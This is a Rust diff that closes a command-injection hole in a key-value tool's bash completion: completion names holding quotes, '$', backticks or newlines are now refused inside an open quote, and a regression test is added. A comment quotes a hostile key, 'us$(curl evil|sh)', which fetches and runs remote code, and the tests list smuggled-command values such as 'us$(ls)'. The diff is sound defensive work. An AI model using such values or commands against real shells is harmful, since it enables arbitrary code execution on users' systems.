@@ -61,10 +61,8 @@ fn for_bash(line: &OsStr, replaced: &OsStr, variables: &[(OsString, OsString)]) 
     let mut lines = Vec::new();
     for candidate in candidates(&words, variables) {
         let value = candidate.get_value().as_bytes();
-        let text = match current.quote {
-            Some(quote) if value.contains(&quote) => continue,
-            Some(_) => value.to_vec(),
-            None => backslashed(value),
+        let Some(text) = typed_into(current.quote, value) else {
+            continue;
         };
         let kept = match current.quote {
             Some(_) => kept.get(1..).unwrap_or_default(),
@@ -76,6 +74,24 @@ fn for_bash(line: &OsStr, replaced: &OsStr, variables: &[(OsString, OsString)]) 
         }
     }
     Some(lines)
+}
+
+/// A value as bash takes it behind the quote that is open; `None`: there it would be
+/// something else, and a name that somebody made must never become a command.
+fn typed_into(quote: Option<u8>, value: &[u8]) -> Option<Vec<u8>> {
+    // What bash expands within this quote; a candidate is a line.
+    let special: &[u8] = match quote {
+        Some(b'"') => b"\"$`\\!\n",
+        Some(_) => b"'\n",
+        None => b"\n",
+    };
+    if value.iter().any(|byte| special.contains(byte)) {
+        return None;
+    }
+    Some(match quote {
+        Some(_) => value.to_vec(),
+        None => backslashed(value),
+    })
 }
 
 /// As bash reads it back.
@@ -158,6 +174,25 @@ mod tests {
     fn nobody_who_answers_is_nothing_to_tell() {
         assert_eq!(bash("dkv kv get us", "us"), [""; 0]);
         assert!(!bash("dkv kv get ", "").contains(&"--tls-ca".to_owned()));
+    }
+
+    /// A key `us$(curl evil|sh)` was put into an open double quote as it is.
+    #[test]
+    fn a_name_that_bash_would_run_or_expand_is_not_put_into_an_open_quote() {
+        let typed = |quote: Option<u8>, value: &str| {
+            let text = typed_into(quote, value.as_bytes())?;
+            Some(String::from_utf8(text).unwrap())
+        };
+        for value in [
+            "us$(ls)", "us`ls`", "us$HOME", "us\\", "us!!", "us\"", "u\nls",
+        ] {
+            assert_eq!(typed(Some(b'"'), value), None, "{value}");
+        }
+        assert_eq!(typed(Some(b'"'), "two 'words'").unwrap(), "two 'words'");
+        assert_eq!(typed(Some(b'\''), "us$(ls)").unwrap(), "us$(ls)");
+        assert_eq!(typed(Some(b'\''), "it's"), None);
+        assert_eq!(typed(None, "us$(ls)").unwrap(), "us\\$\\(ls\\)");
+        assert_eq!(typed(None, "u\nls"), None);
     }
 
     #[test]
